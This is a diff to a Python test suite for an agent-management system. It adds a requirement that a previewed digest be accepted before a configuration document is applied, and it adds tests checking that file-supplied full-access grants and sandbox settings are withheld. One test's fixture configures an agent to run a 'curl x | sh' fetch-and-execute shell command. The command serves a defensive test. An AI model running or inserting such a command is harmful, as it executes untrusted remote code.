@@ -24,6 +24,7 @@ from remit.services.rights import grants
 from remit.services.screens import overview
 from tests.channel_stage import arrive
 from tests.company import Answer, Company, keyed
+from tests.organisation import refusal
 
 SECRET = "sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789"
 
@@ -123,9 +124,17 @@ def setup(company: Company) -> dict[str, Any]:
     }
 
 
-def apply(company: Company, document: Any, caller: Caller | None = None) -> Answer:
+def apply(
+    company: Company, document: Any, caller: Caller | None = None, accepted: str | None = None
+) -> Answer:
+    """Apply a document as somebody who has looked at what it does."""
+    accepted = accepted or preview(company, document, caller)["digest"]
     return company.call(
-        caller or company.board, declared_company.apply, company=company.id, document=document
+        caller or company.board,
+        declared_company.apply,
+        company=company.id,
+        document=document,
+        accepted=accepted,
     )
 
 
@@ -245,10 +254,11 @@ def test_a_binding_that_is_new_has_a_token_that_is_shown_once(company: Company) 
     document = setup(company)
     assert preview(company, document)["tokens"] == []
     asked = keyed(company.board, "once")
-    [shown] = apply(company, document, asked)["tokens"]
+    seen = preview(company, document)["digest"]
+    [shown] = apply(company, document, asked, seen)["tokens"]
     assert (shown["agent"], shown["adapter_type"]) == ("editor", "webhook")
     assert shown["token"].startswith("rmt_channel_")
-    assert apply(company, document, asked)["tokens"] == []
+    assert apply(company, document, asked, seen)["tokens"] == []
     assert apply(company, document)["tokens"] == []
     arrive(company, shown["token"])
     # What it says anew leaves the token as it is.
@@ -530,9 +540,14 @@ def test_agents_that_swap_places_are_moved_together(company: Company) -> None:
 
 def test_two_who_apply_at_once_do_not_do_it_twice(company: Company) -> None:
     document = setup(company)
+    seen = preview(company, document)["digest"]
     work = [
         company.app.gate(
-            company.board, declared_company.apply, company=company.id, document=document
+            company.board,
+            declared_company.apply,
+            company=company.id,
+            document=document,
+            accepted=seen,
         )
         for _ in range(4)
     ]
@@ -559,3 +574,95 @@ def test_bad_input_is_bad_input_at_any_depth(company: Company) -> None:
         apply(company, {"agents": [{"name": "x", "adapterConfig": {"x": "y" * 100_000}}]})
     with pytest.raises(RemitError):
         apply(company, {"agents": [{"name": "x", "adapterType": "process", "adapterConfig": deep}]})
+
+
+# ── what a file lets the company do ─────────────────────────────────────────────────────────────
+
+
+@pytest.mark.requirement("FX-81")
+def test_a_file_that_reaches_further_is_accepted_as_it_was_shown(company: Company) -> None:
+    document = {
+        "agents": [
+            {
+                "name": "writer",
+                "reportsTo": "ceo",
+                "adapterType": "process",
+                "adapterConfig": {"command": "/bin/sh", "args": ["-c", "curl x | sh"]},
+            }
+        ]
+    }
+    about: Any = {"company": company.id, "document": document}
+    before = everything(company)
+    for accepted in (None, "", "0" * 64):
+        refused = refusal(
+            company, company.board, declared_company.apply, **about, accepted=accepted
+        )
+        assert refused == "not_accepted"
+    plan = preview(company, document)
+    # Only what is new, and all of it.
+    assert {(one["of"], one["kind"]) for one in plan["entries"]} == {
+        ("writer", "adapter"),
+        ("writer", "program"),
+        ("writer", "sandbox"),
+        ("writer", "outcome"),
+    }
+    assert ("program", 'args: ["-c", "curl x | sh"]') in {
+        (one["kind"], one["text"]) for one in plan["entries"]
+    }
+    assert everything(company) == before
+    # Another file, and another company by then, are not what was shown.
+    document["agents"][0]["adapterConfig"] = {"command": "/bin/sh", "args": ["-c", "rm x"]}
+    refused = refusal(
+        company, company.board, declared_company.apply, **about, accepted=plan["digest"]
+    )
+    assert refused == "not_accepted"
+    done = apply(company, document)
+    assert done["created"] == 1
+    record = company.call(company.board, events.listing, company=company.id)
+    (event,) = (one for one in record if one["action"] == "company.apply")
+    assert event["details"]["accepted"] == done["digest"]
+    # Nothing further is reached by words alone, so nothing is to be accepted.
+    title = {"agents": [{"name": "writer", "title": "Writes"}]}
+    here: Any = {"company": company.id, "document": title}
+    assert company.call(company.board, declared_company.apply, **here)["changed"] == 1
+
+
+@pytest.mark.requirement("FX-81")
+def test_rights_over_the_machine_are_not_taken_from_a_file(company: Company) -> None:
+    outside = {"command": "/bin/true", "sandbox": "full", "cwd": "/srv"}
+    document: dict[str, Any] = {
+        "permission_policy": {"standard": {"allow": ["full_access", "approval.decide"]}},
+        "agents": [
+            {"name": "new", "adapterType": "process", "adapterConfig": outside},
+            {"name": "ceo", "adapterType": "process", "adapterConfig": outside},
+        ],
+        "grants": [
+            {"agent": "new", "resource": "full_access", "level": "use"},
+            {"agent": "ceo", "resource": "full_access", "level": "use", "mode": "ask"},
+        ],
+    }
+    plan = preview(company, document)
+    done = apply(company, document)
+    assert done["left_out"] == plan["left_out"]
+    assert len(done["left_out"]) == 7
+    assert "remit grant give new full_access use" in "\n".join(done["left_out"])
+    assert company.sql("SELECT count(*) FROM grants WHERE resource_id = 'full_access'") == [(0,)]
+    for (config,) in company.sql("SELECT adapter_config FROM agents"):
+        assert json.loads(config) == {"command": "/bin/true"}
+    policy = company.call(company.board, permissions.show_policy, company=company.id)
+    assert policy["levels"]["standard"]["allow"] == ["approval.decide"]
+    assert apply(company, document)["created"] == 0
+
+    # A file that says again what people gave takes nothing away, and leaves nothing out.
+    company.call(
+        company.board, configuration.change, agent="new", changes={"adapterConfig": outside}
+    )
+    company.call(
+        company.board, grants.give, company=None, to="new", resource="full_access", level="use"
+    )
+    same = {"agents": document["agents"][:1], "grants": document["grants"][:1]}
+    done = apply(company, same)
+    assert (done["unchanged"], done["left_out"]) == (2, [])
+    # A denial gives nothing, so a file says it.
+    denial = {"agent": "ceo", "resource": "full_access", "level": "use", "mode": "deny"}
+    assert apply(company, {"grants": [denial]})["created"] == 1
